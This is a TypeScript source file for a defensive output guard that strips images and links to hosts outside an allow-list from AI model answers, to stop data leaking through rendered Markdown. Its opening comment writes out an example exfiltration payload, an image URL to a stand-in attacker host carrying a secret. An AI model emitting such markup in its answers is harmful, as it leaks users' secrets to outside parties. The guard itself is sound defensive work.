// The exfiltration guard: an answer that embeds an image or link to a host not on the allow-list can
// carry data out (`![](https://attacker/?q=<secret>)` is fetched as soon as it renders).

import { z } from 'zod';
import type { Finding, GuardModule } from '../types.ts';
import { findUrls } from './scan.ts';

const config = z
  .object({
    /** Hosts answers may reference: `example.com` exactly, `*.example.com` for its subdomains. */
    allowed_hosts: z.array(z.string().min(1)).default([]),
    /** Also check links (a click away), not only images and other auto-loading elements. */
    links: z.boolean().default(true),
  })
  .strict();

/** Host of an absolute or protocol-relative URL; undefined for relative URLs and data:/mailto: etc. */
export function hostOf(url: string): string | undefined {
  // Only absolute or protocol-relative URLs have a host; checking first avoids parsing every relative path.
  if (!/^(?:[a-z][a-z0-9+.-]{0,31}:|\/\/)/i.test(url)) return undefined;
  const u = URL.parse(url.startsWith('//') ? `https:${url}` : url);
  return u?.hostname ? u.hostname.toLowerCase().replace(/\.$/, '') : undefined;
}

export function allowed(host: string, patterns: readonly string[]): boolean {
  return patterns.some((p) => {
    const pat = p.toLowerCase();
    return pat.startsWith('*.') ? host.endsWith(pat.slice(1)) && host.length > pat.length - 1 : host === pat;
  });
}

const exfiltration: GuardModule<z.infer<typeof config>> = {
  manifest: {
    name: 'exfiltration',
    description: 'Markdown/HTML images and links in answers that point at hosts not on the allow-list.',
    stages: ['output', 'output_stream'],
    config,
    defaultAction: 'block',
    frameworks: { owasp: ['LLM02:2025', 'LLM05:2025'], atlas: ['AML.T0057'] },
    streamWindow: 1024,
  },
  create(cfg) {
    return ({ segments }) => {
      const out: Finding[] = [];
      segments.forEach((s, segment) => {
        for (const hit of findUrls(s.text)) {
          if (hit.kind === 'link' && !cfg.links) continue;
          const host = hostOf(hit.url);
          if (!host || allowed(host, cfg.allowed_hosts)) continue;
          out.push({
            segment,
            start: hit.start,
            end: hit.end,
            type: `${hit.kind}_exfiltration`,
            score: 1,
            replacement: `[${hit.kind} removed]`,
            reason: `${hit.kind} to a host not on the allow-list`,
          });
        }
      });
      return out;
    };
  },
};

export default exfiltration;
